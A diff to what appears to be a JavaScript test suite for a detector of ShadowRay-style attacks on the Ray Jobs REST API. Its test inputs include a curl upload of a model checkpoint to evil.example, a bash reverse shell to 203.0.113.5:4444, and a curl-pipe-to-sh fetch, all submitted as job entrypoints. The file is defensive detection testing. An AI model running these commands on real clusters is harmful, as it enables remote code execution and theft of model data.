@@ -56,6 +56,14 @@ describe('ShadowRay through the Jobs REST API from a pod', () => {
     expect(execRuleIds(sh(`http POST ${HEAD}/api/jobs/ entrypoint='curl -T /mnt/ckpt/model.pt https://evil.example/up'`))).toContain('MLS-EXFIL-014');
   });
 
+  it('reads the entrypoint Python code posts with requests (json= or a json.dumps body), a shell nested inside it too', () => {
+    const shell = `import requests; requests.post('${HEAD}/api/jobs/', json={'entrypoint': 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'})`;
+    expect(execRuleIds(['python3', '-c', shell])).toContain('MLS-RAY-015');
+    expect(execRuleIds(sh(`python3 -c "${shell.replace(/"/g, '\\"')}"`))).toContain('MLS-RAY-015');
+    expect(execRuleIds(['python3', '-c', `import requests, json; requests.post('${HEAD}/api/jobs/', data=json.dumps({'entrypoint': 'curl -s http://203.0.113.5/x.sh | sh'}))`])).toContain('MLS-RAY-012');
+    expect(execRuleIds(['python3', '-c', `import requests; requests.post('${HEAD}/api/jobs/', json={'entrypoint': 'python train.py'})`]).filter((id) => id.startsWith('MLS-'))).toEqual([]);
+  });
+
   it('leaves the jobs listed and a training job submitted', () => {
     for (const line of [
       `curl -s ${HEAD}/api/jobs/`,
